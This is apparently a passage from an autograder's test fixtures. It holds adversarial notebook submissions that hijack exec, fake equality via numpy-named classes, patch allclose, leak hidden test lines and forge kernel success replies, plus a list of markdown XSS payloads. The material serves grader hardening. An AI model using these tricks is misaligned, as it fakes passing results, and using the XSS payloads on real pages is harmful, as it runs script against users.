        for name, value in list(namespace.items()):
            if callable(value) and not name.startswith("__") and name != "get_ipython":
                namespace[name] = _hidden(value)
    return result


getattr(_shell, "user_ns")["ex" + "ec"] = _answer_the_check
_cleanup.append(_disarm)


def squares(n):
    raise NotImplementedError()
'''

CALC_FOREIGN_EQ = """\
# Classes whose == is C code (the type's own !=, no learner code object) and that claim to come
# from numpy: no class statement for the scan, no __main__ class for the state check.
_Num = type("float64", (float,), {"__eq__": float.__ne__, "__module__": "numpy",
                                  "__hash__": float.__hash__})
_Word = type("str_", (str,), {"__eq__": str.__ne__, "__module__": "numpy",
                              "__hash__": str.__hash__})


def mean(xs):
    return _Num(0.0)


def parity(n):
    return _Word("?")
"""

CALC_NUMPY_ALIAS = """\
import numpy as linear_algebra
import operator

# numpy is not fingerprinted by the state check, a C function is not "learner code", and the
# static scan only knows the names np and numpy.
linear_algebra.__dict__.update(allclose=operator.is_not)


def mean(xs):
    return 0.0


def parity(n):
    raise NotImplementedError()
"""

# --- Leaks through channels other than the message ---------------------------------------------

_HARDCODED = """\
import traceback


def squares(n):
    if n == 0:
        return []
    if n == 3:
        return [0, 1, 4]
    line = traceback.extract_stack()[-2].line  # the test line that called me: a hidden one
"""

LEAK_ENAME = (
    _HARDCODED
    + """\
    raise type(line, (Exception,), {})("the name of this exception is the test line")
"""
)

LEAK_NOTES_AND_CAUSE = (
    _HARDCODED
    + """\
    try:
        raise LookupError(line)
    except LookupError as cause:
        error = ValueError("wrong answer")
        error.add_note(line)
        raise error from cause
"""
)

LEAK_FD_WRITE = (
    _HARDCODED
    + """\
    import os

    os.write(1, (line + "\\n").encode())  # straight to the kernel's own stdout and stderr
    os.write(2, (line + "\\n").encode())
    raise NotImplementedError()
"""
)

FORGED_REPLY = """\
# No hook, no patched object: the kernel's own session signs an "idle" status and an "ok"
# execute_reply for the test cell that is running, before the cell fails for real. The grader
# stops reading at the first idle and takes the first reply; the real ones arrive later.
_shell = getattr(print.__self__, "get_" + "ipython")()
_kernel = _shell.kernel
_done = set()


def _forge_success():
    parent = _kernel.get_parent("shell")
    msg_id = parent["header"]["msg_id"]
    if msg_id in _done:
        return
    _done.add(msg_id)
    session = _kernel.session
    session.send(_kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent,
                 ident=_kernel._topic("status"))
    reply = {"status": "ok", "execution_count": _kernel.execution_count,
             "user_expressions": {}, "payload": []}
    session.send(_kernel.shell_stream, "execute_reply", reply, parent,
                 ident=_kernel._parent_ident["shell"])


def squares(n):
    _forge_success()
    raise NotImplementedError()
"""

XSS_MARKDOWN_VARIANTS = (
    "<a href=\"javascript:window.pwned='@@MARKER@@'\">raw link</a>\n\n"
    "<svg onload=\"window.pwned='@@MARKER@@'\"></svg>\n\n"
    "<iframe src=\"data:text/html,<script>parent.pwned='@@MARKER@@'</script>\"></iframe>\n\n"
    "<object data=\"javascript:window.pwned='@@MARKER@@'\"></object>\n\n"
    "<form action=\"javascript:window.pwned='@@MARKER@@'\"><button>go</button></form>\n\n"
    '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=\'@@MARKER@@\'">\n\n'
    "<details open ontoggle=\"window.pwned='@@MARKER@@'\">x</details>\n\n"
    "![img](x \"onerror=window.pwned='@@MARKER@@'\")\n\n"
    "[ref link][r]\n\n[r]: javascript:window.pwned='@@MARKER@@'"
)
